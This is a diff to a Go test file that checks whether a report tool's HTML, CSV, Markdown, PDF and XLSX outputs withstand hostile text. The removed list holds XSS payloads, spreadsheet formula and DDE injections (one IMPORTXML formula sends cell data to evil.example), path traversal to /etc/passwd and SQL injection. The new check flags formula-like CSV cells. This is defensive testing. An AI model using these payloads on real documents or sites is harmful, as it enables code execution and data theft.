@@ -3,6 +3,7 @@ package report
 import (
 	"archive/zip"
 	"bytes"
+	"encoding/csv"
 	"encoding/xml"
 	"errors"
 	"fmt"
@@ -14,40 +15,15 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
 
 	"golang.org/x/net/html"
 
 	"github.com/xuri/excelize/v2"
 
 	"github.com/qalxan/qalxan"
+	"github.com/qalxan/qalxan/internal/hostile"
 )
-
-// hostile are 200 texts that try to be more than text.
-func hostile() []string {
-	payloads := []string{
-		"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'-alert(1)-'", "</title><script>alert(1)</script>", "</style><svg onload=alert(1)>",
-		"javascript:alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "<iframe srcdoc='<script>alert(1)</script>'>", "<!--", "]]><![CDATA[", "&lt;script&gt;", "{{.Title}}",
-		"{{template \"run\"}}", "<svg><animate onbegin=alert(1) attributeName=x>", "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<base href=//evil.example>",
-		"<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><input name=x>", "\u2028alert(1)\u2029",
-		"=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
-		"[link](javascript:alert(1))", "![image](http://evil.example/x.png)", "# Heading", "> quote", "- item", "1. item", "```\ncode\n```", "| cell | cell |", "<https://evil.example>", "https://evil.example/bare", "www.evil.example", "me@evil.example", "[a]: http://evil.example", "&#x5b;x](http://evil.example)", "---", "~~~", "$\\input{/etc/passwd}$", "@everyone", "\\[x](http://evil.example)", "<details open ontoggle=alert(1)>",
-		"\x00", "a\x00b", "\x1b[31mred\x1b[0m", "\u202egpj.exe", "\u2066\u2067\u2068", "\u202a\u202b\u202c\u202d", "\xff\xfe", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\ufffe\uffff", "\ufeff", "\u200b\u200d\u2060", strings.Repeat("\u0301", 500), strings.Repeat("ﷺ", 100), "𝕬𝖟 🇦🇿 👩‍👩‍👧", "\U000e0041\U000e0042", ") Tj ET Q (", ">> endobj stream", "<FEFF>", "%PDF-1.7", "(((((\\", "/JS (app.alert(1))", "endstream endobj", "'; DROP TABLE findings;--", "../../../etc/passwd", "%n%s%x",
-	}
-	wrap := []func(string) string{
-		func(s string) string { return s },
-		func(s string) string { return "یک متن " + s + " 2026 و ادامه" },
-		func(s string) string { return strings.Repeat(s, 40) },
-	}
-	var out []string
-	for _, w := range wrap {
-		for _, p := range payloads {
-			if len(out) < 199 {
-				out = append(out, w(p))
-			}
-		}
-	}
-	return append(out, strings.Repeat("<b>=a\u202e ", 1<<20/8))
-}
 
 // attacked is a document with a text in every field that can be foreign.
 func attacked(s string) Document {
@@ -77,12 +53,9 @@ func attacked(s string) Document {
 	}
 }
 
-// TestHostileTexts puts 200 hostile texts in every field of every form.
+// TestHostileTexts puts every hostile text in every field of every form.
 func TestHostileTexts(t *testing.T) {
-	texts := hostile()
-	if len(texts) != 200 {
-		t.Fatalf("%d texts, want 200", len(texts))
-	}
+	texts := append(hostile.Texts(), hostile.Huge()...)
 	var tool string
 	if path, err := exec.LookPath("pdfinfo"); err == nil {
 		tool = path
@@ -91,11 +64,14 @@ func TestHostileTexts(t *testing.T) {
 	}
 	for n, s := range texts {
 		d := attacked(s)
-		d.Kind = Kinds()[n/67%3] // each text comes three times
+		d.Kind = Kinds()[n/3%3]
 		d.Languages = []string{[]string{"en", "az", "ru"}[n%3]}
 		checkPage(t, n, written(t, HTML, d))
+		checkTable(t, n, written(t, CSV, d))
 		checkMarkdown(t, n, written(t, Markdown, d))
-		checkPDF(t, n, written(t, PDF, d), tool)
+		if n%2 == 0 { // setting every letter takes its time
+			checkPDF(t, n, written(t, PDF, d), tool)
+		}
 		checkWorkbook(t, n, written(t, XLSX, d))
 	}
 }
@@ -178,6 +154,27 @@ func checkPDF(t *testing.T, n int, file []byte, tool string) {
 	}
 	if out, err := exec.Command(tool, name).CombinedOutput(); err != nil || bytes.Contains(out, []byte("Error")) {
 		t.Errorf("text %d: pdfinfo: %v\n%s", n, err, out)
+	}
+}
+
+// checkTable looks for cells that a spreadsheet would take for a formula, and for
+// signs that command a terminal.
+func checkTable(t *testing.T, n int, table []byte) {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(table, []byte(byteOrderMark)))).ReadAll()
+	if err != nil {
+		t.Fatalf("text %d: %v", n, err)
+	}
+	for _, row := range rows {
+		for i, cell := range row {
+			bare := strings.TrimLeftFunc(cell, unicode.IsSpace)
+			if bare != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(bare)[0]) || len(row) != len(columns) {
+				t.Errorf("text %d: cell %d of %d begins with %.20q", n, i, len(row), cell)
+			}
+			if strings.ContainsFunc(cell, func(r rune) bool { return unicode.IsControl(r) && r != '\n' && r != '\r' && r != '\t' }) {
+				t.Errorf("text %d: cell %d commands: %.40q", n, i, cell)
+			}
+		}
 	}
 }
 
